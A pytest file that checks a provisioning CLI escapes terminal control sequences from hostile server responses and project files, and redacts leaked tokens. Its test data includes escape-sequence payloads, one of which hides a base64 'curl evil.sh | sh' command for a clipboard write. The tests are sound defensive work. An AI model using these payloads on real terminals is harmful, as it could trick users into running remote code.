"""What a server (or a file) sends back reaches the terminal escaped, and tokens never reach it.

A hostile server of the test's own answers with names and messages full of escape sequences
(OSC title/clipboard writes, CSI screen clears, carriage returns that overwrite a line, bidi
overrides) and echoes the caller's token in its error bodies.
"""

from __future__ import annotations

import json

import pytest

from tests.cli import output, provision
from tests.hostile import Hostile, answer, fake_jwt, routes, token_ok

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
NASTY = [OSC_TITLE, OSC_CLIPBOARD, CLEAR, "\rOK   ", "\x9b2J", "\u202eevil", "\x08\x08", "\x00"]
RAW_CONTROLS = ["\x1b", "\x07", "\r", "\x9b", "\u202e", "\x08", "\x00"]


def env_for(url: str) -> dict[str, str]:
    return {"CONDUCTOR_SERVER_URL": url, "CONDUCTOR_AUTH_KEY": "k", "CONDUCTOR_AUTH_SECRET": "terminal-secret-1"}


def assert_no_raw_controls(text: str) -> None:
    found = sorted({f"U+{ord(ch):04X}" for ch in text if ch in RAW_CONTROLS})
    assert not found, f"raw control characters reached the terminal: {found}\n{text!r}"


def apps_with_nasty_names() -> list[dict[str, object]]:
    return [{"id": f"id{i}{nasty}", "name": f"app{nasty}", "tags": [{"key": f"k{nasty}", "value": nasty}]}
            for i, nasty in enumerate(NASTY)]


def test_names_and_ids_from_the_server_are_escaped_in_text_output(hostile: Hostile) -> None:
    server = hostile.server(routes({"POST /api/token": token_ok(),
                                    "GET /api/applications": answer(200, apps_with_nasty_names())}))
    result = provision(["apps", "list"], env=env_for(server.url))
    assert result.returncode == 0, output(result)
    assert_no_raw_controls(result.stdout + result.stderr)
    assert "app\\x1b]0;pwned\\x07" in result.stdout  # escaped, still readable
    assert len(result.stdout.splitlines()) == len(NASTY)


def test_json_output_escapes_them_as_json_does(hostile: Hostile) -> None:
    server = hostile.server(routes({"POST /api/token": token_ok(),
                                    "GET /api/applications": answer(200, apps_with_nasty_names())}))
    result = provision(["apps", "list", "--json"], env=env_for(server.url))
    assert result.returncode == 0, output(result)
    assert_no_raw_controls(result.stdout)
    assert "\u2028" not in result.stdout and "\u2029" not in result.stdout
    names = sorted(app["name"] for app in json.loads(result.stdout))
    assert names == sorted(f"app{nasty}" for nasty in NASTY)  # the data itself is intact


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
def test_an_error_message_from_the_server_is_escaped_and_its_token_redacted(hostile: Hostile, as_json: bool) -> None:
    token = fake_jwt()
    other = fake_jwt("app:someone-else")
    body = {"message": f"{OSC_TITLE}bad request from X-Authorization: {token}; also saw {other}\r{CLEAR}",
            "validationErrors": [{"path": f"name{OSC_CLIPBOARD}", "message": f"token {token}"}]}
    server = hostile.server(routes({"POST /api/token": token_ok(token), "GET /api/applications": answer(400, body)}))
    result = provision(["apps", "list", *(["--json"] if as_json else [])], env=env_for(server.url))
    assert result.returncode == 2, output(result)
    printed = result.stdout + result.stderr  # under --json the error is on stdout
    assert_no_raw_controls(printed)
    for secret in (token, other, token.split(".")[2], other.split(".")[2]):
        assert secret not in printed, printed
    assert "[redacted]" in printed
    if not as_json:
        assert [line.split(":")[0] for line in result.stderr.splitlines()] == ["error", "hint"]


def test_a_redirect_location_is_neither_followed_nor_printed_with_a_token(hostile: Hostile) -> None:
    # Control characters cannot arrive in a header (h11 refuses the answer: exit 8); a token can.
    target = hostile.server(answer(200, {"token": fake_jwt()}), name="redirect-target")
    token = fake_jwt()
    location = f"{target.url}/token?leak={token}"
    server = hostile.server(routes({"POST /api/token": token_ok(token),
                                    "GET /api/applications": answer(302, b"", {"Location": location})}))
    result = provision(["apps", "list"], env=env_for(server.url))
    assert result.returncode == 13, output(result)
    assert target.connections == 0
    assert token not in result.stderr
    assert_no_raw_controls(result.stderr)


def test_names_from_a_file_are_escaped_too(tmp_path: object, hostile: Hostile) -> None:
    # A project file names the application; its other values reach messages as they are.
    from pathlib import Path

    root = Path(str(tmp_path))
    (root / "orkes-provision.toml").write_text(
        '[application]\nname = "greetings-app"\n\n[[workers]]\nname = "w"\nruntime = "python"\n'
        'command = ["python3"]\ncwd = "dir\\u001b]0;pwned\\u0007"\n')
    result = provision(["worker", "run", "w", "--no-preflight", "--store", "memory"], cwd=root,
                       env={"CONDUCTOR_SERVER_URL": "http://127.0.0.1:9/api"})
    assert result.returncode == 3, output(result)
    assert_no_raw_controls(result.stderr)
    assert "\\x1b]0;pwned" in result.stderr
